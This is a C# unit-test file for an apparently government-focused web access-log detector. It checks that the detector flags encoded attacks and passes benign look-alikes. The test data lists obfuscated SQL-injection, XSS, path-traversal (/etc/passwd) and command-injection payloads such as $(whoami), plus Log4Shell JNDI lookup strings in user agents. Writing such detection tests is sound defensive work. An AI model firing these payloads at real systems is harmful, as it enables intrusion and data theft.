using System.IO.Compression;
using System.Text;
using GovGuard.Detection.Findings;
using GovGuard.Detection.Logs;
using GovGuard.Detection.Rules;

namespace GovGuard.Detection.Tests.Logs;

public class AccessLogDetectorTests
{
    private static string Line(string target, string ua = "Mozilla/5.0", string method = "GET", int status = 200) =>
        $"10.1.2.3 - - [12/May/2024:10:00:00 +0800] \"{method} {target} HTTP/1.1\" {status} 512 \"-\" \"{ua}\"";

    [Theory]
    [InlineData("/a?id=1%20UnIoN%20SeLeCt%201,2,3--", Categories.AttackSqli)]
    [InlineData("/a?id=1/**/union/**/select/**/null,version()", Categories.AttackSqli)]
    [InlineData("/a?id=1/*!50000union*/+/*!50000select*/+1,2", Categories.AttackSqli)]
    [InlineData("/a?id=1%2527%2520or%2520%25271%2527%253D%25271", Categories.AttackSqli)]
    [InlineData("/a?id=1%27+and+sleep(5)--+", Categories.AttackSqli)]
    [InlineData("/a?id=1;waitfor+delay+'0:0:5'--", Categories.AttackSqli)]
    [InlineData("/a?id=-1+union+select+table_name+from+information_schema.tables", Categories.AttackSqli)]
    [InlineData("/a?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E", Categories.AttackXss)]
    [InlineData("/a?q=%26lt%3Bsvg%2Fonload%3Dalert(1)%26gt%3B", Categories.AttackXss)]
    [InlineData("/a?q=%EF%BC%9Cscript%EF%BC%9E", Categories.AttackXss)]
    [InlineData("/a?url=JaVaScRiPt:alert(1)", Categories.AttackXss)]
    [InlineData("/a?f=..%252f..%252f..%252fetc%252fpasswd", Categories.AttackTraversal)]
    [InlineData("/a?f=..%c0%af..%c0%afwin.ini", Categories.AttackTraversal)]
    [InlineData("/WEB-INF/web.xml", Categories.AttackTraversal)]
    [InlineData("/a?ip=127.0.0.1%3Bid", Categories.AttackCmdi)]
    [InlineData("/a?ip=127.0.0.1%0auname+-a", Categories.AttackCmdi)]
    [InlineData("/a?x=%24%28whoami%29", Categories.AttackCmdi)]
    [InlineData("/a?x=%60id%60", Categories.AttackCmdi)]
    [InlineData("/uploads/2024/a.php", Categories.AttackWebshellAccess, "POST")]
    [InlineData("/upload/1.asp;.jpg", Categories.AttackWebshellAccess)]
    public void Encoded_attacks_are_found(string target, string category, string method = "GET")
    {
        var findings = LogCorpusTests.Scan(Line(target, method: method));
        Assert.Contains(findings, f => f.Category == category && f.Line == 1);
    }

    [Theory]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)", Categories.AttackScanner)]
    [InlineData("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Categories.AttackScanner)]
    [InlineData("${jndi:ldap://198.51.100.1/a}", Categories.AttackCmdi)]
    [InlineData("${${::-j}${::-n}di:rmi://x/a}", Categories.AttackCmdi)]
    public void Attacks_in_the_user_agent_are_found(string ua, string category)
    {
        var findings = LogCorpusTests.Scan(Line("/", ua));
        var f = Assert.Single(findings, f => f.Category == category);
        Assert.Contains("UA: ", f.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/search?q=union+station")]
    [InlineData("/search?q=select+a+school+near+union+square")]
    [InlineData("/search?q=%E8%81%94%E5%90%88+union+%E9%80%89%E6%8B%A9+select")]
    [InlineData("/?utm_source=wechat&utm_medium=social&utm_campaign=spring_2024&utm_term=online+services&gclid=Cj0KCQjwABCDEFG_hijk-lmnop")]
    [InlineData("/api/session?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwib3IiOiIxPTEifQ.AbC-dEf_GhI")]
    [InlineData("/download.do;jsessionid=8A3F9C1E2B?id=12")]
    [InlineData("/search?q=rock+and+roll+1%3D1")]
    [InlineData("/search?q=O%27Brien")]
    [InlineData("/search?q=cat+%7C+dog+shelter")]
    [InlineData("/news/2024/select-committee-report.html")]
    [InlineData("/search?q=script+writing")]
    [InlineData("/page?onload=1&online=true")]
    public void Hard_negatives_are_not_attacks(string target)
    {
        Assert.Empty(LogCorpusTests.Scan(Line(target)));
    }

    [Fact]
    public void One_finding_per_category_per_line()
    {
        var findings = LogCorpusTests.Scan(Line("/a?f=../../../../etc/passwd"));
        Assert.Single(findings);
        Assert.Equal(Categories.AttackTraversal, findings[0].Category);
    }

    [Fact]
    public void Common_format_lines_are_read()
    {
        var line = "10.1.2.3 - - [12/May/2024:10:00:00 +0800] \"GET /a?id=1+union+select+1,2 HTTP/1.0\" 200 12";
        var findings = LogCorpusTests.Scan(line, AccessLogFormat.Common);
        Assert.Contains(findings, f => f.Category == Categories.AttackSqli);
    }

    [Fact]
    public void Malformed_lines_are_counted_and_the_scan_goes_on()
    {
        var log = "not a log line\n\u0001\u0002\u0003\n" + Line("/a?x=%3Cscript%3E") + "\n10.0.0.1 - - [bad\n";
        var findings = new List<Finding>();
        var s = Scan(Encoding.UTF8.GetBytes(log), findings);
        Assert.Equal(4, s.Lines);
        Assert.Equal(3, s.Malformed);
        Assert.Equal([1L, 2L, 4L], s.FirstMalformed);
        Assert.Equal(3, Assert.Single(findings).Line);
    }

    [Fact]
    public void Invalid_utf8_and_gbk_bytes_are_tolerated()
    {
        var gbk = new byte[] { 0xD5, 0xFE, 0xB8, 0xAE }; // "政府" in GBK, invalid as UTF-8
        var bytes = Encoding.ASCII.GetBytes("10.1.2.3 - - [12/May/2024:10:00:00 +0800] \"GET /a?q=")
            .Concat(gbk).Concat(new byte[] { 0xFF, 0xC3 }).Concat(Encoding.ASCII.GetBytes("+union+select+1,2 HTTP/1.1\" 200 1 \"-\" \"x\"\n")).ToArray();
        var findings = new List<Finding>();
        var s = Scan(bytes, findings);
        Assert.Equal(0, s.Malformed);
        Assert.Contains(findings, f => f.Category == Categories.AttackSqli);
    }

    [Fact]
    public void Huge_lines_are_capped_and_counted()
    {
        var huge = Line("/a?x=" + new string('A', 200_000) + "&y=%3Cscript%3E");
        var log = huge + "\n" + Line("/b?id=1+union+select+1,2") + "\n";
        var findings = new List<Finding>();
        var s = Scan(Encoding.ASCII.GetBytes(log), findings);
        Assert.Equal(2, s.Lines);
        Assert.Equal(1, s.CappedLines);
        Assert.Contains(findings, f => f.Line == 2 && f.Category == Categories.AttackSqli);
    }

    [Fact]
    public void Empty_input_has_no_lines()
    {
        var s = Scan([], []);
        Assert.Equal(0, s.Lines);
        Assert.Null(s.InputProblem);
    }

    [Fact]
    public void Gzip_input_is_recognised_by_its_magic_bytes()
    {
        var plain = string.Join('\n', Enumerable.Range(0, 1000).Select(i => Line(i == 500 ? "/a?q=%3Cscript%3E" : "/p" + i))) + "\n";
        var findings = new List<Finding>();
        var s = Scan(Gzip(plain), findings);
        Assert.Equal(1000, s.Lines);
        Assert.Null(s.InputProblem);
        Assert.Equal(501, Assert.Single(findings).Line);
    }

    [Fact]
    public void Truncated_gzip_keeps_the_lines_read_and_says_so()
    {
        var plain = string.Join('\n', Enumerable.Range(0, 20000).Select(i => Line(i == 10 ? "/a?q=%3Cscript%3E" : "/page/" + i * 7919))) + "\n";
        var gz = Gzip(plain);
        var findings = new List<Finding>();
        var s = Scan(gz[..(gz.Length / 2)], findings);
        Assert.NotNull(s.InputProblem);
        Assert.Contains("gzip", s.InputProblem, StringComparison.Ordinal);
        Assert.InRange(s.Lines, 100, 19999);
        Assert.Equal(11, Assert.Single(findings).Line);
    }

    [Fact]
    public void A_bad_rule_file_fails_with_its_file_and_line()
    {
        var text = "# comment\n[r1]\ncategory = attack.sqli\nseverity = high\nkeywords = a\nregex = (unclosed\nzh = x\nen = y\n";
        var e = Assert.Throws<RuleFormatException>(() => LogRuleSet.Load([("logs/bad.rules", text)]));
        Assert.Equal("logs/bad.rules", e.File);
        Assert.Equal(6, e.Line);

        var typo = "[r1]\ncategory = attack.sqli\nseverity = high\nkeyword = a\nzh = x\nen = y\n";
        var e2 = Assert.Throws<RuleFormatException>(() => LogRuleSet.Load([("logs/typo.rules", typo)]));
        Assert.Equal(4, e2.Line);

        var cat = "[r1]\ncategory = attack.nope\nseverity = high\nkeywords = a\nzh = x\nen = y\n";
        Assert.Equal(2, Assert.Throws<RuleFormatException>(() => LogRuleSet.Load([("c.rules", cat)])).Line);
    }

    [Theory]
    [InlineData("%252e%252e%252f", "../")]
    [InlineData("%u0027+OR+%u0027", "' or '")]
    [InlineData("&#x3C;&lt;&#60;", "<<<")]
    [InlineData("SeL/**/eCt", "sel ect")]
    [InlineData("\\x22abc\\x22", "\"abc\"")]
    [InlineData("%EF%BC%9C", "<")]
    public void Normalizer_undoes_encodings(string raw, string expected)
    {
        var n = new RequestNormalizer();
        Assert.Equal(expected, n.Normalize(Encoding.ASCII.GetBytes(raw)).ToString());
    }

    private static LogScanSummary Scan(byte[] bytes, List<Finding> findings) =>
        new AccessLogScanner(TestRules.Logs, new AccessLogOptions()).Scan(new NonSeekable(bytes), findings.Add);

    private static byte[] Gzip(string text)
    {
        var ms = new MemoryStream();
        using (var gz = new GZipStream(ms, CompressionLevel.Fastest, leaveOpen: true))
        {
            gz.Write(Encoding.ASCII.GetBytes(text));
        }

        return ms.ToArray();
    }

    /// <summary>Like stdin: no length, no seeking, short reads.</summary>
    private sealed class NonSeekable(byte[] data) : Stream
    {
        private int _pos;

        public override bool CanRead => true;

        public override bool CanSeek => false;

        public override bool CanWrite => false;

        public override long Length => throw new NotSupportedException();

        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public override int Read(byte[] buffer, int offset, int count)
        {
            var n = Math.Min(Math.Min(count, 7777), data.Length - _pos);
            data.AsSpan(_pos, n).CopyTo(buffer.AsSpan(offset));
            _pos += n;
            return n;
        }

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
